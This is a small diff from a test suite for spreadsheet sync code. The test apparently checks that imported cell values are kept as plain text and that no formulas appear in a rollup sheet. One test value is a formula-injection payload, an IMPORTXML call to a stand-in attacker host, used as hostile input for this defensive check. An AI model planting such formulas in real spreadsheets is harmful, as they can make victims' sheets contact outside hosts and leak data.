@@ -76,7 +76,7 @@ describe("sync against the real API", () => {
     expect(children.map((r) => r[1]).sort()).toEqual(["O-SAL", "O-SUP"]);
     expect(children.map((r) => String(r[0]).trim()).sort()).toEqual(["+1", '=IMPORTXML("https://evil.example","//a")']);
     // Not one formula anywhere in the Rollup sheet.
-    expect(leader.gas.book.engine.getSheetFormulas(rollup.hfId).flat().filter(Boolean)).toEqual([]);
+    expect(rollup.formulas().flat().filter(Boolean)).toEqual([]);
     expect(rows[company]![8]).toBeTypeOf("string");
   });
 
